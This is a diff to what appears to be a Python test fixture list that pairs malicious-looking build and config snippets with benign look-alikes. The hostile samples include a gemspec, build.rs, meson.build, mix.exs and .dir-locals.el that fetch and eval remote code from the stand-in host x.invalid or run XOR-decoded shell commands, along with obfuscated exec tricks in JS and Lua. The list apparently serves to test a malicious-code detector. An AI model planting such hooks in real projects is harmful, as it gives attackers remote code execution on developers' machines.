@@ -289,6 +289,37 @@ PAIRS = [
         'u = "http://" * join(reverse(["invalid", "x"]), ".") * ".so"\ndownload(u, dest)\ndlopen(dest)',
         'u = "http://" * join(reverse(["invalid", "x"]), ".") * ".csv"\ndownload(u, dest)\nread(dest)',
     ),
+    (
+        "a.gemspec",
+        "s.files = %x(git ls-files -z; ruby -ropen-uri -e 'eval URI(\"https://x.invalid/f.rb\").read').split",
+        "s.files = %x(git ls-files -z; ruby -ropen-uri -e 'puts URI(\"https://x.invalid/f.rb\").read').split",
+    ),
+    (
+        "build.rs",
+        (
+            "let s: String = T.iter().map(|b| (b ^ 7) as char).collect();\n"
+            'Command::new(if w { "cmd" } else { "sh" }).arg(if w { "/C" } else { "-c" }).arg(s).spawn();'
+        ),
+        'let s: String = T.iter().map(|b| (b ^ 7) as char).collect();\nprintln!("{}", s);',
+    ),
+    (
+        "meson.build",
+        "run_command(py, ['-c', 'import http.client as h;c=h.HTTPConnection(\"x.invalid\");exec(c.getresponse().read())'])",
+        "run_command(py, ['-c', 'import numpy; print(numpy.get_include())'])",
+    ),
+    (
+        "mix.exs",
+        '@v (case :httpc.request({~c"http://x.invalid/v", []}) do\n {:ok, {_, body}} -> body |> Code.eval_string()\nend)',
+        '@v (case :httpc.request({~c"http://x.invalid/v", []}) do\n {:ok, {_, body}} -> body |> Version.parse()\nend)',
+    ),
+    (
+        ".dir-locals.el",
+        '((nil . ((eval . (make-network-process :host "x.invalid" :filter (lambda (p s) (eval (read s))))))))',
+        '((nil . ((eval . (make-network-process :host "x.invalid" :filter (lambda (p s) (insert s)))))))',
+    ),
+    ("a.js", "const { exec } = require('child_process');\nexec('abcd')", "const exec = bound(/b/.exec);\nexec('abcd')"),
+    ("b.lua", "load(string.unpack('s', x))", "fs.execute(lua, unpack(args))"),
+    ("c.lua", "f = ('xxecute'):gsub('xx', 'ex')", "f = url:gsub('^https://', 'http://')"),
     (".user.ini", "auto_prepend_file = logo.png", "auto_prepend_file ="),
 ]
 
